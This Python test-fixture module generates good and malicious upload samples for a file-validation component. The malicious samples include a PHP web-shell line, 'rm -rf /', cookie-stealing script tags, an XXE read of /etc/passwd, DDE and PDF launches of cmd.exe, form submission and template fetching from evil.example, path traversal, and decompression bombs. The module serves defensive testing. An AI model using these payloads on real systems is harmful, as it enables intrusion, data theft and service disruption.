"""Files as people send them, good and bad, made here: nothing harmful lies in the repository."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from typing import Any

import pikepdf
from PIL import Image, ImageDraw

from anjie.paperwork.sniffing.sorts import DOCX, JPEG, M4A, MP3, MP4, PDF, PNG, TEXT, TIFF, WAV, WEBP, XLSX, Sort

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
"""The harmless text that every scanner takes for a virus."""


# -- good ones -----------------------------------------------------------------------------------------------------


def drawing(size: tuple[int, int] = (200, 120), mode: str = "RGB") -> Image.Image:
    picture = Image.new("RGB", size, "white")
    ImageDraw.Draw(picture).rectangle((20, 20, size[0] // 2, size[1] // 2), fill="navy")
    return picture.convert(mode)


def picture(kind: str = "JPEG", size: tuple[int, int] = (200, 120), **options: Any) -> bytes:
    out = io.BytesIO()
    drawing(size).save(out, kind, **options)
    return out.getvalue()


def scan(pages: int = 3) -> bytes:
    out = io.BytesIO()
    first, *rest = [drawing((200, 280), "1") for _ in range(pages)]
    first.save(out, "TIFF", save_all=True, append_images=rest, compression="group4")
    return out.getvalue()


def pdf(change: Callable[[pikepdf.Pdf], None] = lambda _: None, **options: Any) -> bytes:
    out = io.BytesIO()
    with pikepdf.new() as made:
        made.add_blank_page(page_size=(595, 842))
        change(made)
        made.save(out, **options)
    return out.getvalue()


WORD_MAIN = DOCX.media_type + ".main+xml"
EXCEL_MAIN = XLSX.media_type + ".main+xml"


def office(main: str = WORD_MAIN, more: Mapping[str, bytes] | None = None, body: bytes = b"<w:document/>") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("[Content_Types].xml", f'<Types><Override ContentType="{main}"/></Types>')
        packed.writestr("word/document.xml", body)
        for name, data in (more or {}).items():
            packed.writestr(name, data)
    return out.getvalue()


def mp3() -> bytes:
    return (b"\xff\xfb\x90\x00" + bytes(413)) * 5


def boxes(brand: bytes = b"isom") -> bytes:
    return b"".join(
        struct.pack(">I", len(body) + 8) + name + body
        for name, body in ((b"ftyp", brand + bytes(8)), (b"moov", bytes(40)), (b"mdat", bytes(400)))
    )


def wav() -> bytes:
    body = b"fmt " + struct.pack("<I", 16) + bytes(16) + b"data" + struct.pack("<I", 200) + bytes(200)
    return b"RIFF" + struct.pack("<I", len(body) + 4) + b"WAVE" + body


LETTER = "投诉人农秀英，保单号P2023450103000188，业务员收取现金未入账。\n".encode()

GOOD: Mapping[str, tuple[Sort, bytes]] = {
    "照片.jpg": (JPEG, picture()),
    "a picture called .exe": (PNG, picture("PNG")),
    "grey": (JPEG, picture("JPEG", quality=60)),
    "webp": (WEBP, picture("WEBP")),
    "扫描件.tif": (TIFF, scan()),
    "保单.pdf": (PDF, pdf()),
    "linear.pdf": (PDF, pdf(linearize=True)),
    "packed.pdf": (PDF, pdf(object_stream_mode=pikepdf.ObjectStreamMode.generate)),
    "信.txt": (TEXT, LETTER),
    "gb.txt": (TEXT, LETTER.decode().encode("gb18030")),
    "说明.docx": (DOCX, office()),
    "清单.xlsx": (XLSX, office(EXCEL_MAIN)),
    "a document with a link": (DOCX, office(more={"word/_rels/document.xml.rels": (
        b'<Relationship Type="http://x/hyperlink" Target="http://x.example" TargetMode="External"/>')})),
    "录音.mp3": (MP3, mp3()),
    "tagged.mp3": (MP3, b"ID3\x04\x00\x00\x00\x00\x00\x0a" + bytes(10) + mp3()),
    "录音.m4a": (M4A, boxes(b"M4A ")),
    "录像.mp4": (MP4, boxes()),
    "录音.wav": (WAV, wav()),
}  # fmt: skip


# -- bad ones ------------------------------------------------------------------------------------------------------


def _javascript(made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")


def _launches(made: pikepdf.Pdf) -> None:
    action = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")
    link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=action)
    made.pages[0].Annots = pikepdf.Array([made.make_indirect(link)])


def _attaches(made: pikepdf.Pdf) -> None:
    made.attachments["payload.exe"] = pikepdf.AttachedFileSpec(made, b"MZ", filename="payload.exe")


def _submits(made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="http://evil.example")


def _xfa(made: pikepdf.Pdf) -> None:
    made.Root.AcroForm = pikepdf.Dictionary(XFA=made.make_stream(b"<xdp/>"), Fields=[])


def _zip(*names: str, data: bytes = b"x") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        for name in names:
            packed.writestr(name, data)
    return out.getvalue()


def _png_claiming(width: int, height: int) -> bytes:
    def chunk(name: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(bytes(100))) + chunk(b"IEND", b"")


def _overlapping() -> bytes:
    """Two parts that lie at the same place."""
    whole = office(more={"word/a.xml": b"<a/>" * 1000, "word/b.xml": b"<a/>" * 1000})
    data = bytearray(whole)
    entries = [n for n in range(len(data)) if data[n : n + 4] == b"PK\x01\x02"]
    first = data[entries[2] + 42 : entries[2] + 46]
    data[entries[3] + 42 : entries[3] + 46] = first
    return bytes(data)


def _lying() -> bytes:
    """A part that says it is small."""
    whole = bytearray(office(more={"word/big.xml": bytes(300_000_000).replace(b"\0", b" ")}))
    at = whole.rfind(b"PK\x01\x02")
    whole[at + 24 : at + 28] = struct.pack("<I", 10)
    return bytes(whole)


def _escaped_javascript() -> bytes:
    plain = pdf(_javascript, compress_streams=False, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    return plain.replace(b"/JavaScript", b"/J#61vaScript")


def _animated() -> bytes:
    out = io.BytesIO()
    drawing().save(out, "PNG", save_all=True, append_images=[drawing((200, 120))] * 3)
    return out.getvalue()


SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!DOCTYPE html><html><script>alert(document.cookie)</script></html>"
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY l2 "&lol;&lol;">]><w:document>&l2;</w:document>'
)
REMOTE = b'<Relationship Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'


def bad() -> dict[str, bytes]:
    """Every file that must be refused, by what it is."""
    return {
        "nothing": b"",
        "svg with script.svg": SVG,
        "svg called png.png": SVG,
        "svg after a byte order mark": b"\xef\xbb\xbf\n" + SVG,
        "html.html": HTML,
        "html called pdf.pdf": HTML,
        "html in a text.txt": b"dear sirs\n<script>alert(1)</script>",
        "xml.xml": b'<?xml version="1.0"?><a/>',
        "php.txt": b"<?php system($_GET[0]); ?>",
        "shell.sh": b"#!/bin/sh\nrm -rf /\n",
        "rich text.rtf": b"{\\rtf1\\ansi{\\object}}",
        "mail.eml": b"MIME-Version: 1.0\nContent-Type: text/html\n\n<b>x</b>",
        "shortcut.url": b"[InternetShortcut]\nURL=file:///c:/windows",
        "program.exe": b"MZ\x90\x00" + bytes(400),
        "program called jpg.jpg": b"MZ\x90\x00" + bytes(400),
        "elf": b"\x7fELF" + bytes(400),
        "windows shortcut.lnk": b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(400),
        "old word.doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
        "archive.zip": _zip("a.pdf"),
        "archive called docx.docx": _zip("a.exe"),
        "empty archive": _zip(),
        "rar": b"Rar!\x1a\x07\x00" + bytes(60),
        "seven.7z": b"7z\xbc\xaf\x27\x1c" + bytes(60),
        "packed.gz": b"\x1f\x8b\x08" + bytes(60),
        "moving.gif": picture("GIF"),
        "gif and script": b"GIF89a=1;alert(1)//",
        "bitmap.bmp": picture("BMP"),
        "heic.heic": b"\x00\x00\x00\x18ftypheic" + bytes(100),
        "moving.png": _animated(),
        "unknown bytes": bytes(range(256)) * 10,
        "half a photograph.jpg": picture("JPEG", (600, 400))[:1500],
        "half a picture.png": picture("PNG", (600, 400))[:150],
        "a head alone.jpg": b"\xff\xd8\xff\xe0",
        "65535 by 65535.png": _png_claiming(65535, 65535),
        "a long line of points.png": _png_claiming(2_000_000, 50),
        "pdf with script.pdf": pdf(_javascript),
        "pdf with script, packed.pdf": pdf(_javascript, object_stream_mode=pikepdf.ObjectStreamMode.generate),
        "pdf with script, spelled otherwise.pdf": _escaped_javascript(),
        "pdf that launches.pdf": pdf(_launches),
        "pdf that launches, packed.pdf": pdf(_launches, object_stream_mode=pikepdf.ObjectStreamMode.generate),
        "pdf with attachment.pdf": pdf(_attaches),
        "pdf that sends.pdf": pdf(_submits),
        "pdf with xfa.pdf": pdf(_xfa),
        "pdf with password.pdf": pdf(encryption=pikepdf.Encryption(owner="a", user="b")),
        "pdf with owner's password.pdf": pdf(encryption=pikepdf.Encryption(owner="a", user="")),
        "pdf of too many pages.pdf": pdf(lambda made: [made.add_blank_page() for _ in range(600)] and None),
        "half a pdf.pdf": pdf()[:-200],
        "a pdf's head.pdf": b"%PDF-1.7\n",
        "pdf and archive.pdf": pdf() + _zip("a.exe"),
        "pdf and html.pdf": pdf() + HTML,
        "html and pdf.pdf": HTML + pdf(),
        "word with macros.docm": office(WORD_MAIN.replace("document.main", "document.macroEnabled.main")),
        "word with macros, renamed.docx": office(more={"word/vbaProject.bin": b"x"}),
        "word with an object.docx": office(more={"word/embeddings/oleObject1.bin": b"x"}),
        "word with activex.docx": office(more={"word/activeX/activeX1.xml": b"<x/>"}),
        "word with a template from elsewhere.docx": office(more={"word/_rels/settings.xml.rels": REMOTE}),
        "word with dde.docx": office(body=b"<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText>"),
        "word with a billion laughs.docx": office(body=LAUGHS),
        "word with xxe.docx": office(body=b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'),
        "word with a path.docx": office(more={"../../etc/cron.d/x": b"x"}),
        "word with a drive.docx": office(more={"c:/windows/x": b"x"}),
        "word bomb.docx": office(more={f"word/{n}.xml": b" " * 20_000_000 for n in range(6)}),
        "word bomb that lies.docx": _lying(),
        "word with parts over one another.docx": _overlapping(),
        "word of too many parts.docx": office(more={f"word/{n}.xml": b"" for n in range(2_100)}),
        "half a word.docx": office()[:-30],
        "half a video.mp4": boxes()[:-50],
        "video with an archive.mp4": boxes() + _zip("a.exe"),
        "sound and script.mp3": b"\xff\xfb\x90\x00<script>alert(1)</script>",
        "half a sound.wav": wav()[:30],
    }
